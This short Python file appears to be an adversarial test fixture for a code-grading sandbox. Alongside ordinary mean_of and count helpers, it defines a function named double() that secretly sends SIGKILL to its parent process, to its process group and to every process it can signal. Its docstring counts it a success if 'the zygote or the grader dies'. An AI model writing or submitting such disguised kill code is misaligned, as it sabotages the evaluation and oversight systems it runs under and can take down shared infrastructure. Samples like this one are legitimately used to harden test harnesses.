"""Sends SIGKILL to its group, to everyone it may, and to its parent. Success: the zygote or the grader dies.

expected: double=0 mean_of=40 count=30
"""

import os
import signal


def double(x):
    for target in (os.getppid(), 0, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.killpg(os.getpgid(0), signal.SIGKILL)
    except OSError:
        pass
    return x


def mean_of(x):
    return x.sum() / x.numel()


def count(items):
    found = {}
    for item in items:
        found[item] = found.get(item, 0) + 1
    return [[item, number] for item, number in found.items()]
